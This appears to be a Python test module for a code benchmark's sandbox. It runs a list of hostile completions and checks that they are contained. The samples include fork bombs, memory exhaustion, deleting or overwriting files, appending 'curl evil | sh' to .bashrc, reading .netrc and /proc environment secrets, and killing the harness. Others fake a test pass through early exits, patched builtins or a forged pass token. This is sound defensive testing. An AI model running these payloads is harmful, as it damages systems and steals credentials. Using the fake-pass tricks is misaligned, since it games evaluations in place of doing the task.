"""Hostile completions against the HumanEval sandbox, a canary tree, and one runner for both
the tests (test_attacks.py) and the README table (report.py).

Convention: an attack's program runs to its end only if the attack worked, so the sample must
never pass. Placeholders ($canary, $results, $home, $secret, $port, $harness) are filled in per
run; `tests` plays the part of HumanEval's tests for the fake-pass attempts.
"""

from __future__ import annotations

import hashlib
import os
import secrets
import shutil
import socket
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from string import Template

from specbench.sandbox import SandboxResult, run_program

TIMEOUT_S = 3.0
SECRET_ENV = "SPECBENCH_CANARY_SECRET"


@dataclass(frozen=True)
class Attack:
    name: str
    source: str
    tests: str = ""


WRONG_F = "def f(x):\n    return None\n"
TESTS_F = "assert f(2) == 4\nassert abs(f(3) - 9) < 1e-9\n"

ATTACKS = (
    Attack("fork bomb", "import os\nwhile True:\n    os.fork()\n"),
    Attack("infinite loop", "while True:\n    pass\n"),
    Attack(
        "busy threads",
        "import threading\ndef spin():\n    while True:\n        pass\n"
        "for _ in range(64):\n    threading.Thread(target=spin, daemon=True).start()\n"
        "threading.Event().wait()\n",
    ),
    Attack("10 GB allocation", "block = bytearray(10 * 1024**3)\nblock[-1] = 1\n"),
    Attack(
        "write outside the temp dir",
        "open('$canary/planted.txt', 'w').write('x')\n"
        "open('$canary/notes.txt', 'a').write('tampered')\n",
    ),
    Attack("write a world-writable dir", "open('$canary/shared/planted.txt', 'w').write('x')\n"),
    Attack("delete outside the temp dir", "import shutil\nshutil.rmtree('$canary')\n"),
    Attack(
        "overwrite the results dir",
        "open('$results/job/summary.json', 'w').write('{}')\n"
        "import os\nos.remove('$results/job/records.parquet')\n",
    ),
    Attack(
        "write the user's home",
        "open('$home/.bashrc', 'a').write('curl evil | sh')\n"
        "open('$home/.planted', 'w').write('x')\n",
    ),
    Attack("read a secret file", "assert '$secret' in open('$home/.netrc').read()\n"),
    Attack(
        "read environment secrets",
        "import os\n"
        "hits = [k for k, v in os.environ.items() if '$secret' in v]\n"
        "try:\n    pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "except OSError:\n    pids = []\n"
        "for pid in pids + ['$harness']:\n"
        "    try:\n"
        "        hits += [pid] if b'$secret' in open(f'/proc/{pid}/environ', 'rb').read() else []\n"
        "    except OSError:\n"
        "        pass\n"
        "assert hits\n",
    ),
    Attack("open a socket", "import socket\nsocket.create_connection(('127.0.0.1', $port), 1)\n"),
    Attack(
        "raw socket via ctypes",
        "import ctypes, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "fd = libc.socket(2, 1, 0)\nassert fd >= 0, ctypes.get_errno()\n"
        "addr = struct.pack('=H', 2) + struct.pack('!H4s8x', $port, bytes([127, 0, 0, 1]))\n"
        "assert libc.connect(fd, addr, 16) == 0, ctypes.get_errno()\n",
    ),
    Attack("os.system", "import os\nassert os.system('echo x > $canary/system.txt') == 0\n"),
    Attack(
        "subprocess",
        "import subprocess\n"
        "subprocess.run(['/bin/sh', '-c', 'echo x > $canary/sub.txt'], check=True)\n",
    ),
    Attack(
        "signal games: kill the harness",
        "import os, signal\n"
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        "for pid in ($harness, os.getppid()):\n"
        "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n"
        "while True:\n    pass\n",
    ),
    Attack("sys.exit(0) before the tests", WRONG_F + "import sys\nsys.exit(0)\n", TESTS_F),
    Attack("os._exit(0) before the tests", WRONG_F + "import os\nos._exit(0)\n", TESTS_F),
    Attack(
        "patch builtins to fake a pass",
        "def f(x):\n    return 0\nimport builtins\nbuiltins.abs = lambda x: 0\n"
        "builtins.AssertionError = type('Quiet', (Exception,), {})\n",
        "assert abs(f(3) - 9) < 1e-9\n",
    ),
    Attack(
        "forge the pass token",
        "import gc, os, re, sys\nfound = set()\nframe = sys._getframe()\nwhile frame:\n"
        "    found |= {v for v in frame.f_locals.values() if isinstance(v, (str, bytes))}\n"
        "    frame = frame.f_back\n"
        "for obj in gc.get_objects():\n"
        "    found |= {v for v in getattr(obj, '__dict__', {}).values() if isinstance(v, str)}\n"
        "for token in [t for t in found if re.fullmatch('[0-9a-f]{32}', str(t))]:\n"
        "    for fd in range(3, 64):\n"
        "        try:\n            os.write(fd, token.encode())\n        except OSError:\n"
        "            pass\nos._exit(0)\n",
        TESTS_F,
    ),
    Attack("huge stdout", "import sys\nsys.stdout.write('x' * 200_000_000)\nsys.stdout.flush()\n"),
    Attack(
        "deep recursion",
        "import sys\nsys.setrecursionlimit(10**8)\ndef down(n):\n    return down(n + 1)\ndown(0)\n",
    ),
    Attack(
        "ctypes: setuid(0), then write",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "assert libc.setuid(0) == 0 or libc.unshare(0x10000000) == 0\n"
        "open('$canary/ctypes.txt', 'w').write('x')\n",
    ),
    Attack("ctypes: segfault", "import ctypes\nctypes.string_at(0)\n"),
)


@dataclass(frozen=True)
class Canary:
    """Files outside the sandbox that no attack may change: a tree in the user's home (a fake
    results dir, a world-writable dir, a secret file only the user may read)."""

    root: Path
    secret: str

    @property
    def values(self) -> dict[str, str]:
        return {
            "canary": str(self.root),
            "results": str(self.root / "results"),
            "home": str(self.root / "home"),
            "secret": self.secret,
        }

    def digest(self) -> str:
        """sha256 over every path, mode and content below the root (and the root's mode)."""
        h = hashlib.sha256(f"{self.root.stat().st_mode}".encode())
        for path in sorted(self.root.rglob("*")):
            info = path.lstat()
            h.update(f"{path.relative_to(self.root)}\0{info.st_mode}\0".encode())
            if path.is_file():
                h.update(hashlib.sha256(path.read_bytes()).digest())
        return h.hexdigest()


@contextmanager
def canary_tree() -> Iterator[Canary]:
    """A fresh canary tree under the user's home, removed afterwards."""
    root = Path.home() / f".specbench-canary-{secrets.token_hex(4)}"
    canary = Canary(root, secrets.token_hex(8))
    job = root / "results" / "job"
    job.mkdir(parents=True)
    (job / "summary.json").write_text('{"rows": 8}')
    (job / "records.parquet").write_bytes(b"PAR1 fake records PAR1")
    (root / "notes.txt").write_text("untouched")
    (root / "home").mkdir()
    (root / "home" / ".bashrc").write_text("# canary\n")
    (root / "home" / ".netrc").write_text(f"machine example.com password {canary.secret}\n")
    (root / "home" / ".netrc").chmod(0o600)
    (root / "shared").mkdir()
    (root / "shared").chmod(0o777)
    try:
        yield canary
    finally:
        shutil.rmtree(root, ignore_errors=True)


@contextmanager
def listener() -> Iterator[socket.socket]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    try:
        yield server
    finally:
        server.close()


def connected(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
    except TimeoutError:
        return False
    return True


@dataclass(frozen=True)
class Outcome:
    attack: str
    result: SandboxResult
    seconds: float
    canary_changed: bool
    connected: bool


def run_attack(attack: Attack, canary: Canary, server: socket.socket) -> Outcome:
    """Run one attack with the secret in the harness's environment; report what happened."""
    values = canary.values | {"port": str(server.getsockname()[1]), "harness": str(os.getpid())}
    before = canary.digest()
    os.environ[SECRET_ENV] = canary.secret
    try:
        start = time.monotonic()
        result = run_program(
            Template(attack.source).substitute(values),
            tests=Template(attack.tests).substitute(values),
            timeout_s=TIMEOUT_S,
        )
        seconds = time.monotonic() - start
    finally:
        del os.environ[SECRET_ENV]
    return Outcome(attack.name, result, seconds, canary.digest() != before, connected(server))
